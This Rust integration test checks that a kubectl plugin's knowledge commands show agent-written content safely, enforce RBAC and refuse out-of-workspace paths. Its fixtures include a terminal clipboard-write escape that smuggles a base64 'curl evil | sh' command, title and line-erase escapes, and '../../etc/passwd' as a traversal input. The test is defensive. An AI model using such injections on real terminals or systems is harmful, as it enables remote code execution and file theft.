//! `kubectl vexa knowledge` as people run it: the built `kubectl-vexa` binary, with a
//! kubeconfig holding only the person's own client certificate (signed by the cluster), against
//! the in-process operator's streams API registered as `v1.streams.vexa.ai`, and the
//! workspace's trusted reader (a Job on the agent worker's image) that the operator starts.
//!
//! - alice (the chart's `vexa-user` rules for knowledge, and cards) lists her workspace's
//!   history, reads its files and a commit's diff; an agent's escape sequences in a commit
//!   message and a file name never reach her output raw; `cat` into a pipe is the file's exact
//!   bytes;
//! - she uploads a local file with `--approve`: the Card is hers, decided by her, and the commit
//!   the CLI prints is in the workspace, authored by her, with her file's text;
//! - bob (no rights there) is told he may not, and no Card exists in his name;
//! - a path out of the workspace (`../../etc/passwd`) is refused before any request: the same
//!   answer comes with a kubeconfig whose API server does not exist.
//!
//! Needs `eval "$(hack/cluster env)"`, the agent worker image (`hack/images/agent-worker`) and
//! `cargo build -p vexa-cli`. Run under the shared lock:
//! `flock /tmp/vexa-eval.lock cargo test -p vexa-evals --test cli_knowledge -- --ignored`.

#![allow(clippy::expect_used, clippy::unwrap_used)]

use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use kube::{Api, Client};
use serde_json::json;
use vexa_core::knowledge::{Blob, Diff, Log};
use vexa_crds::card::Card;
use vexa_evals::admission::ChartAdmission;
use vexa_evals::fixtures::{
    WORKSPACE_CLAIM, claim_folder, git, workspace, workspace_ready, workspace_volume,
};
use vexa_evals::operator::assert_no_operator_in_cluster;
use vexa_evals::streams::StreamsApi;
use vexa_evals::{TestNamespace, cli_binary, client, cluster_env, users, wait_for};

const WS: &str = "alice-notes";
/// An agent's commit message: a clipboard write (OSC 52) and a line erase.
const HOSTILE_SUMMARY: &str = "Tidy notes \u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{1b}[2Kdone";
/// An agent's file: a window title and a line erase, in enough ordinary text that git takes
/// it for text (libgit2 calls a file with more than one control character per 128 printable
/// ones binary, and the reader then serves no text).
fn hostile_text() -> String {
    format!(
        "harmless\n\u{1b}]0;pwned\u{7}\u{1b}[1A\u{1b}[2Kreplaced\n{}",
        "an ordinary line of meeting notes, long enough to read as text.\n".repeat(20)
    )
}

/// A person of the cluster with a kubeconfig of their own.
struct Person {
    name: &'static str,
    kubeconfig: PathBuf,
}

impl Person {
    async fn new(admin: &Client, name: &'static str) -> Self {
        let user = users::user(admin, name).await;
        Self {
            name,
            kubeconfig: user.kubeconfig,
        }
    }

    /// `kubectl vexa -n NS ARGS` as this person, standard output a pipe.
    fn run(&self, ns: &str, args: &[&str]) -> Output {
        run_with(self.name, &self.kubeconfig, ns, args)
    }
}

fn run_with(who: &str, kubeconfig: &Path, ns: &str, args: &[&str]) -> Output {
    let out = Command::new(cli_binary())
        .args(["-n", ns])
        .args(args)
        .env("KUBECONFIG", kubeconfig)
        .env_remove("REDIS_URL")
        .env_remove("VEXA_NAMESPACE")
        .output()
        .unwrap();
    eprintln!(
        "{who} $ kubectl vexa {}: {}\n{}",
        args.join(" "),
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn stdout(out: &Output) -> String {
    String::from_utf8(out.stdout.clone()).unwrap()
}

fn ok(out: &Output) -> String {
    assert!(
        out.status.success(),
        "{}\n{}",
        stdout(out),
        String::from_utf8_lossy(&out.stderr)
    );
    stdout(out)
}

/// Commits `files` into the workspace's folder as an agent would have (an author that is not
/// alice), and returns the commit id.
fn agent_commit(dir: &Path, files: &[(&str, &str)], message: &str) -> String {
    for (path, text) in files {
        let file = dir.join(path);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, text).unwrap();
        git(dir, &["add", path]);
    }
    git(
        dir,
        &[
            "-c",
            "user.name=notes-agent",
            "-c",
            "user.email=agent@vexa.invalid",
            "commit",
            "-q",
            "-m",
            message,
        ],
    );
    git(dir, &["rev-parse", "HEAD"])
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs a cluster: run hack/test"]
async fn people_read_and_upload_knowledge_with_kubectl_vexa_only_as_rbac_allows() {
    cli_binary();
    let admin = client().await;
    assert_no_operator_in_cluster(&admin).await;
    let ns = TestNamespace::new(&admin, "cli-knowledge").await;
    // Dropped before the namespace: the APIService goes first.
    let streams = StreamsApi::register(&admin, &ns.name).await;
    // Card custody: only the Card's owner decides it, as themselves.
    let _admission = ChartAdmission::install(&[]);
    let operator = streams
        .operator(
            &admin,
            &[
                "--job-ttl-seconds".to_owned(),
                "30".to_owned(),
                format!("--redis-url={}", cluster_env("POD_REDIS_URL")),
            ],
        )
        .await;
    workspace_volume(&admin, &ns.name).await;
    workspace(&admin, &ns.name, WS, "alice/notes", "rw").await;
    workspace_ready(&admin, &ns.name, WS).await;

    // Two commits an agent made, the second with escape sequences in its message and a file.
    let dir = claim_folder(&admin, &ns.name, WORKSPACE_CLAIM, "alice/notes").await;
    let owner = std::fs::metadata(&dir).unwrap();
    if !dir.join(".git").exists() {
        git(&dir, &["init", "-q", "-b", "main"]);
    }
    let first = agent_commit(
        &dir,
        &[("notes/hello.md", "hello from the agent\n")],
        "First notes",
    );
    let hostile = hostile_text();
    let second = agent_commit(
        &dir,
        &[
            ("notes/evil.md", hostile.as_str()),
            ("notes/logo.bin", "PNG\0\u{1}\u{2}binary"),
            (
                "notes/hello.md",
                "hello from the agent\nand a second line\n",
            ),
        ],
        HOSTILE_SUMMARY,
    );
    // The repository stays the agents' user's: the apply Job commits into it as that user.
    let chown = Command::new("chown")
        .arg("-R")
        .arg(format!("{}:{}", owner.uid(), owner.gid()))
        .arg(&dir)
        .status()
        .unwrap();
    assert!(chown.success());

    let (alice, bob) = (
        Person::new(&admin, "alice").await,
        Person::new(&admin, "bob").await,
    );
    // alice: what the chart's vexa-user grants for knowledge, and the card-decider's patch.
    users::grant_role(
        &admin,
        &ns.name,
        "alice",
        "knowledge",
        json!([
            {"apiGroups": ["vexa.ai"], "resources": ["workspaces"], "verbs": ["get", "list"]},
            {"apiGroups": ["streams.vexa.ai"], "resources": ["workspaces/log", "workspaces/tree", "workspaces/blob", "workspaces/diff"], "verbs": ["get"]},
            {"apiGroups": ["streams.vexa.ai", "vexa.ai"], "resources": ["workspaces/uploads"], "verbs": ["create"]},
            {"apiGroups": ["vexa.ai"], "resources": ["cards"], "verbs": ["get", "list", "watch", "patch", "update"]},
        ]),
    )
    .await;

    // The first read: RBAC has propagated and the operator started the workspace's reader.
    let started = Instant::now();
    let log_text = wait_for(
        "alice's first `knowledge log` (RBAC in effect, the reader started)",
        Duration::from_secs(180),
        || async {
            let out = alice.run(&ns.name, &["knowledge", "log", WS]);
            out.status.success().then(|| stdout(&out))
        },
    )
    .await;
    let first_read = started.elapsed();

    // The history: newest first, short ids, the agent's message shown, not obeyed.
    // (The oldest is the Workspace controller's own first commit, `.gitignore`.)
    let lines: Vec<&str> = log_text.lines().collect();
    assert_eq!(lines.len(), 3, "{log_text}");
    assert!(lines[0].starts_with(&second[..12]), "{log_text}");
    assert!(lines[1].starts_with(&first[..12]), "{log_text}");
    assert!(lines[1].contains("notes-agent") && lines[1].ends_with("First notes"));
    assert!(
        !log_text.contains('\u{1b}') && !log_text.contains('\u{7}'),
        "{log_text:?}"
    );
    assert!(
        lines[0].contains("Tidy notes ^[]52;c;Y3VybCBldmlsIHwgc2g=^G^[[2Kdone"),
        "{log_text}"
    );
    let warm = Instant::now();
    let json_log: Log = serde_json::from_str(&ok(
        &alice.run(&ns.name, &["knowledge", "log", WS, "-o", "json"])
    ))
    .unwrap();
    let warm_read = warm.elapsed();
    assert_eq!(
        json_log.commits[..2]
            .iter()
            .map(|c| c.id.as_str())
            .collect::<Vec<_>>(),
        [second.as_str(), first.as_str()]
    );
    // -o json keeps the message's meaning exactly.
    assert_eq!(json_log.commits[0].summary, HOSTILE_SUMMARY);

    // Files: the folder, a file at the head and at the first commit, a hostile file.
    let ls = ok(&alice.run(&ns.name, &["knowledge", "ls", WS, "notes/"]));
    assert!(ls.contains("evil.md") && ls.contains("hello.md"), "{ls}");
    assert_eq!(
        ok(&alice.run(&ns.name, &["knowledge", "cat", WS, "notes/hello.md"])),
        "hello from the agent\nand a second line\n"
    );
    assert_eq!(
        ok(&alice.run(
            &ns.name,
            &[
                "knowledge",
                "cat",
                WS,
                "notes/hello.md",
                "--rev",
                &first[..8]
            ]
        )),
        "hello from the agent\n"
    );
    // Into a pipe, `cat` writes the file as stored (documented); -o json escapes it.
    assert_eq!(
        ok(&alice.run(&ns.name, &["knowledge", "cat", WS, "notes/evil.md"])),
        hostile
    );
    let blob: Blob = serde_json::from_str(&ok(&alice.run(
        &ns.name,
        &["knowledge", "cat", WS, "notes/evil.md", "-o", "json"],
    )))
    .unwrap();
    assert_eq!(blob.text.as_deref(), Some(hostile.as_str()));
    // On a terminal (a pseudo-terminal from util-linux `script`), it is shown, not obeyed.
    let tty = Command::new("script")
        .args(["-qec"])
        .arg(format!(
            "{} -n {} knowledge cat {WS} notes/evil.md",
            cli_binary().display(),
            ns.name
        ))
        .arg("/dev/null")
        .env("KUBECONFIG", &alice.kubeconfig)
        .output()
        .expect("script (util-linux)");
    let on_tty = String::from_utf8_lossy(&tty.stdout).into_owned();
    assert!(tty.status.success(), "{on_tty}");
    assert!(
        on_tty.contains("^[]0;pwned^G^[[1A^[[2Kreplaced"),
        "{on_tty:?}"
    );
    assert!(!on_tty.contains('\u{1b}'), "{on_tty:?}");

    // A binary file is not shown, on a terminal or not.
    let out = alice.run(&ns.name, &["knowledge", "cat", WS, "notes/logo.bin"]);
    assert!(!out.status.success() && out.stdout.is_empty());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("notes/logo.bin is a binary file (12 bytes)"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // A commit's diff.
    let diff = ok(&alice.run(&ns.name, &["knowledge", "diff", WS, &second]));
    assert!(diff.contains(&format!("commit {second}")), "{diff}");
    assert!(
        diff.contains("Author:    notes-agent <agent@vexa.invalid>"),
        "{diff}"
    );
    assert!(diff.contains("added: notes/evil.md"), "{diff}");
    assert!(diff.contains("modified: notes/hello.md"), "{diff}");
    assert!(
        diff.contains("added: notes/logo.bin\n  (binary: no patch)"),
        "{diff}"
    );
    assert!(diff.contains("+and a second line"), "{diff}");
    assert!(!diff.contains('\u{1b}'), "{diff:?}");
    let json_diff: Diff = serde_json::from_str(&ok(
        &alice.run(&ns.name, &["knowledge", "diff", WS, &first, "-o", "json"])
    ))
    .unwrap();
    assert_eq!(json_diff.files.len(), 1);
    assert_eq!(json_diff.files[0].path, "notes/hello.md");

    // A path out of the workspace and a revision expression: refused before any request, so a
    // kubeconfig whose API server does not exist gives the same answer.
    let nowhere = std::env::temp_dir().join(format!("vexa-eval-nowhere-{}", std::process::id()));
    std::fs::write(
        &nowhere,
        "apiVersion: v1\nkind: Config\nclusters: [{name: x, cluster: {server: 'https://127.0.0.1:9'}}]\n\
         users: [{name: x, user: {token: x}}]\ncontexts: [{name: x, context: {cluster: x, user: x}}]\n\
         current-context: x\n",
    )
    .unwrap();
    for args in [
        ["knowledge", "cat", WS, "../../etc/passwd"],
        ["knowledge", "ls", WS, "/etc"],
        ["knowledge", "diff", WS, "HEAD~1"],
    ] {
        for kubeconfig in [&alice.kubeconfig, &nowhere] {
            let out = run_with("alice", kubeconfig, &ns.name, &args);
            assert!(!out.status.success());
            let err = String::from_utf8_lossy(&out.stderr);
            assert!(
                err.contains("is not a path in the workspace")
                    || err.contains("is not a commit id"),
                "{err}"
            );
            assert!(!err.contains("cannot reach"), "{err}");
            assert!(out.stdout.is_empty());
        }
    }
    let _ = std::fs::remove_file(&nowhere);

    // Local files the CLI refuses before asking: too large, not text.
    let local = std::env::temp_dir().join(format!("vexa-eval-upload-{}", std::process::id()));
    std::fs::create_dir_all(&local).unwrap();
    std::fs::write(local.join("big.md"), "x".repeat(262_145)).unwrap();
    std::fs::write(local.join("bin.md"), [0x89, b'P', b'N', b'G', 0xff]).unwrap();
    for (file, says) in [("big.md", "at most 262144 bytes"), ("bin.md", "not UTF-8")] {
        let path = local.join(file);
        let out = alice.run(
            &ns.name,
            &[
                "knowledge",
                "upload",
                WS,
                "notes/x.md",
                path.to_str().unwrap(),
            ],
        );
        assert!(!out.status.success());
        assert!(String::from_utf8_lossy(&out.stderr).contains(says));
    }

    // The upload, approved at once: a commit authored by alice.
    let text = "# Uploaded with kubectl vexa\nfrom alice's laptop\n";
    std::fs::write(local.join("uploaded.md"), text).unwrap();
    let upload_started = Instant::now();
    let out = alice.run(
        &ns.name,
        &[
            "knowledge",
            "upload",
            WS,
            "notes/uploaded.md",
            local.join("uploaded.md").to_str().unwrap(),
            "--approve",
        ],
    );
    let upload_time = upload_started.elapsed();
    let printed = ok(&out);
    let commit = printed.trim().rsplit(' ').next().unwrap().to_owned();
    assert!(
        printed.contains("notes/uploaded.md committed as") && commit.len() == 40,
        "{printed}"
    );
    assert_eq!(git(&dir, &["log", "-1", "--format=%an", &commit]), "alice");
    assert!(
        git(&dir, &["log", "-1", "--format=%B", &commit]).contains("Vexa-Approved-By: alice"),
        "the trailer names who approved"
    );
    assert_eq!(
        git(&dir, &["show", &format!("{commit}:notes/uploaded.md")]),
        text.trim_end()
    );
    let cards = Api::<Card>::namespaced(admin.clone(), &ns.name)
        .list(&Default::default())
        .await
        .unwrap()
        .items;
    let card = cards
        .iter()
        .find(|c| {
            c.spec
                .record
                .as_ref()
                .is_some_and(|r| r.path == "notes/uploaded.md")
        })
        .expect("the upload's Card");
    assert_eq!(card.spec.owner, "alice");
    assert_eq!(
        card.spec.decision.as_ref().and_then(|d| d.by.as_deref()),
        Some("alice")
    );
    // …and she sees it at the head of her history, authored by her.
    let log_after = ok(&alice.run(&ns.name, &["knowledge", "log", WS, "--limit", "1"]));
    assert!(log_after.starts_with(&commit[..12]), "{log_after}");
    assert!(log_after.contains("  alice  "), "{log_after}");

    // bob: refused reads and uploads, with the permission named; no Card in his name.
    let out = bob.run(&ns.name, &["knowledge", "log", WS]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("you may not do this"), "{err}");
    assert!(err.contains("workspaces/log (streams.vexa.ai)"), "{err}");
    assert!(out.stdout.is_empty());
    let out = bob.run(&ns.name, &["knowledge", "cat", WS, "notes/hello.md"]);
    assert!(!out.status.success() && out.stdout.is_empty());
    std::fs::write(local.join("bob.md"), "from bob\n").unwrap();
    let out = bob.run(
        &ns.name,
        &[
            "knowledge",
            "upload",
            WS,
            "notes/bob.md",
            local.join("bob.md").to_str().unwrap(),
            "--approve",
        ],
    );
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("you may not do this"), "{err}");
    assert!(err.contains("workspaces/uploads"), "{err}");
    let bobs = Api::<Card>::namespaced(admin.clone(), &ns.name)
        .list(&Default::default())
        .await
        .unwrap()
        .items
        .into_iter()
        .filter(|c| {
            c.spec.owner == "bob"
                || c.spec
                    .record
                    .as_ref()
                    .is_some_and(|r| r.path == "notes/bob.md")
        })
        .count();
    assert_eq!(bobs, 0, "bob's upload made no Card");
    assert_eq!(
        git(&dir, &["rev-parse", "HEAD"]),
        commit,
        "nothing else was committed"
    );
    let _ = std::fs::remove_dir_all(&local);

    eprintln!(
        "cli knowledge figures: first `knowledge log` (RBAC wait and the reader's start included) \
         {} ms; a warm `knowledge log -o json` {} ms (process start included); \
         `knowledge upload --approve` → commit printed {} ms",
        first_read.as_millis(),
        warm_read.as_millis(),
        upload_time.as_millis()
    );
    drop(operator);
    drop(streams);
}
